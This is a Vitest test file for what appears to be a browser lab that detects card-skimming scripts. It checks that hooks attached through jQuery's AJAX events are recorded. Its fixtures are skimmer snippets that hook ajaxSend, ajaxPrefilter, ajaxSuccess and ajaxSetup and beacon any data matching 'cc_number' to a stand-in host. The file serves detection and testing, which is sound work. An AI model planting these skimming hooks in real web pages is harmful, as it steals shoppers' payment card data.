// Guards that the laboratory's stand-in for jQuery calls what scripts hang into its requests.
import { describe, expect, it } from 'vitest'
import { all, run, shareBrowser } from './run.ts'

shareBrowser()

const send = (what: string) => `if (/cc_number/.test(${what})) new Image().src = 'https://seen-often.example/j?' + ${what}`

describe('jQuery’s requests', () => {
  it.each([
    ['ajaxSend', `jQuery(document).ajaxSend(function (event, request, settings) { ${send('settings.data')} })`],
    ['ajaxSend as an event', `$(document).on('ajaxSend', function (event, request, settings) { ${send('settings.data')} })`],
    ['ajaxPrefilter', `$.ajaxPrefilter(function (options) { ${send('options.data')} })`],
    ['ajaxSuccess', `$(document).ajaxSuccess(function (event, request, settings) { ${send('settings.data')} })`],
    ['ajaxSetup', `$.ajaxSetup({ beforeSend: function (request, settings) { ${send('settings.data')} } })`],
  ])('are seen through %s', async (_name, code) => {
    expect(all(await run(code), 'sends')).toContainEqual(expect.objectContaining({ what: 'card', to: 'seen-often.example' }))
  })
})
